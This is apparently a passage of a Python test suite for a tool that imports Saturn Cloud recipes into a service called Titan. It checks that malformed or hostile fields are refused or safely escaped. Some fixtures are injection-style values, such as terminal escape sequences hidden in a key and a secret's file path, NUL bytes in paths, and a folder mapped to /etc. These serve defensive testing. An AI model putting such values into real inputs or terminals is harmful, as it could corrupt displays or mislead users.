            "description": "x" * 5000,
            "working_directory": "/data/\x00",
        },
    }
    problems = refused(document)
    assert set(problems) == {
        "spec.environment_variables.LONE",
        "spec.environment_variables.NUL",
        "spec.environment_variables.TITAN_TOKEN",
        "spec.environment_variables.1BAD",
        "spec.dask_cluster",
        "spec.description",
        "spec.working_directory",
    }
    assert "reserved for Titan" in problems["spec.environment_variables.TITAN_TOKEN"]["message"]
    assert "1000" in problems["spec.dask_cluster"]["message"]
    json.dumps(problems)  # every echoed value can be sent back as JSON
    made = lenient(document)
    assert made.recipes[0]["spec"] == {"environment_variables": {"OK": "fine"}}


@pytest.mark.parametrize("name", ["a\x00b", "\ud800", "x" * 64, "-", "na me", 5, ""])
def test_a_name_titan_cannot_take_is_an_error_lenient_or_not(name: Any) -> None:
    document = {"name": name, "job": {"command": "true"}, "schema_version": "2022.08.01"}
    with pytest.raises(ImportRefused) as info:
        lenient(document)
    assert [p["path"] for p in info.value.problems] == ["name"]


def test_a_job_without_a_command_or_a_recipe_without_a_name_is_an_error() -> None:
    with pytest.raises(ImportRefused) as info:
        lenient({"schema_version": "2025.10.01", "type": "job", "spec": {"name": "j"}})
    assert [p["path"] for p in info.value.problems] == ["command"]
    with pytest.raises(ImportRefused) as info:
        lenient({"jupyter_server": {}, "schema_version": "2022.08.01"})
    assert [p["path"] for p in info.value.problems] == ["name"]


@pytest.mark.parametrize(
    "document",
    [[], "recipe", {}, {"name": "x"}, {"type": "image", "spec": {}}, {"type": "job", "spec": 3}],
)
def test_what_is_no_saturn_resource_recipe_says_so(document: Any) -> None:
    with pytest.raises(RecipeInvalid):
        lenient(document)


def test_secrets_and_folders_that_clash_or_cannot_be_named_are_refused() -> None:
    document = {
        "schema_version": "2025.10.01",
        "type": "workspace",
        "spec": {
            "name": "w",
            "environment_variables": {"TOKEN": "x"},
            "secrets": [
                {"name": "t", "attachment_type": "environment_variable", "location": "TOKEN"},
                {"name": "Bad_Name", "attachment_type": "file", "location": "/x/key.pem"},
                {"name": "k", "attachment_type": "file", "location": "/x/key.pem",
                 "owner": {"id": "7f3a"}},
                {"attachment_type": "file", "location": "/x/cert.pem"},
            ],
            "shared_folders": [
                {"owner": "ml", "name": "data", "path": "/etc"},
                {"owner": "ml", "name": "data"},
                {"owner": "ml", "name": "more", "path": "/shared/ml/data"},
            ],
        },
    }  # fmt: skip
    problems = refused(document)
    assert set(problems) == {
        "spec.secrets[0]",
        "spec.secrets[1]",
        "spec.secrets[2]",
        "spec.secrets[3]",
        "spec.shared_folders[0]",
        "spec.shared_folders[2]",
    }
    assert lenient(document).recipes[0]["spec"]["folders"] == [
        {"name": "data", "owner": "ml", "path": "/shared/ml/data"}
    ]


def test_working_directories_outside_saturns_home_are_kept() -> None:
    document = {"name": "w", "jupyter_server": {}, "schema_version": "2022.08.01",
                "working_directory": "/srv/project"}  # fmt: skip
    made = convert(document, SIZES, DEFAULT_INSTANCE_TYPES)
    assert made.recipes[0]["spec"]["working_directory"] == "/srv/project"
    assert rows(made)["working_directory"].outcome == "kept"


def test_the_operators_table_must_name_catalog_types(tmp_path: Path) -> None:
    with pytest.raises(ValidationError) as info:
        Settings(data_dir=tmp_path, saturn_instance_types={"large": "cpu-huge"})
    assert "'large': 'cpu-huge'" in str(info.value) and "TITAN_INSTANCE_TYPES" in str(info.value)
    ok = Settings(data_dir=tmp_path, saturn_instance_types={"large": "cpu-large"})
    assert ok.saturn_instance_types == {"large": "cpu-large"}


def test_the_report_echoes_no_control_character_a_document_holds() -> None:
    document = {
        "name": "w",
        "jupyter_server": {"\x1b[2Jcolour": "blue"},
        "secrets": [{"name": "k", "type": "file", "location": "/x/\x1b]0;owned\x07/key.pem"}],
        "schema_version": "2022.08.01",
    }
    made = lenient(document)
    text = json.dumps([row.as_json() for row in made.report], ensure_ascii=False)
    assert "\x1b" not in text and "\x07" not in text
    assert '"jupyter_server[\\"\\\\u001b[2Jcolour\\"]"' in text  # the key, escaped


def test_the_cli_table_shows_text_as_it_is() -> None:
    from rich.console import Console

    from service.cli_import import report_table

    row = {"field": "a[b]", "outcome": "kept", "titan": None, "why": "[red]x\x1b[0m"}
    console = Console(width=200, record=True, color_system=None)
    console.print(report_table([row]))
    shown = console.export_text()
    assert "a[b]" in shown and "[red]x\\x1b[0m" in shown


JUNK: list[Any] = [
    10**5000,
    -1,
    True,
    1.5,
    float("nan"),
    "\ud800\x00\x1b",
    "x" * 100_000,
    [None, 3, {"a": []}],
    {"url": 10**5000, "name": ["x"], "install": {"a": 1}, "instance_type": 7},
    [{"url": 10**5000, "name": 3, "location": None, "type": "file", "reference_type": 3}],
]
FIELDS = sorted(
    {"scale", "instance_count", "routes", "subdomain", "public", "viewers", "healthcheck",
     "schedule", "retries", "backoff_limit", "concurrency_policy", "name",
     "description", "command", "instance_type", "auto_shutoff", "image",
     "environment_variables", "secrets", "shared_folders", "working_directory",
     "dask_cluster", "start_script", "extra_packages", "git_repositories", "owner", "tags",
     "schema_version", "ide", "start_ssh", "config_files", "state", "no_such"}
)  # fmt: skip


@pytest.mark.parametrize("name", FIELDS)
def test_any_value_of_any_field_is_reported_or_refused_never_a_crash(name: str) -> None:
    for junk in JUNK:
        for document in (
            {"type": "job", "spec": {"name": "j", "command": "true", name: junk}},
            {"name": "j", "job": {"command": "true", name: junk}, name: junk},
            {"type": "deployment", "spec": {"name": "d", "command": "serve :8000", name: junk}},
            {"name": "d", "deployment": {"command": "serve 8000", name: junk}, name: junk},
        ):
            for mode in (True, False):
                try:
                    made = convert(document, SIZES, DEFAULT_INSTANCE_TYPES, mode)
                except RecipeInvalid as exc:  # ImportRefused too: problems named, sendable
                    assert exc.problems and utf8_json(exc.problems)
                    continue
                for recipe in made.recipes:
                    parse_recipe(recipe, DEFAULT_INSTANCE_TYPES)
                assert utf8_json(made.as_json())


def utf8_json(value: Any) -> bytes:
    """``value`` as the API sends it (UTF-8, nothing escaped that need not be)."""
    return json.dumps(value, ensure_ascii=False).encode("utf-8")


def test_an_envelope_name_inside_spec_is_an_unknown_field_not_the_envelope() -> None:
    document = {"type": "job", "spec": {"name": "j", "command": "true", "type": "workspace"}}
    assert "check the spelling" in refused(document)["spec.type"]["message"]
    assert lenient(document).recipes[0]["type"] == "job"
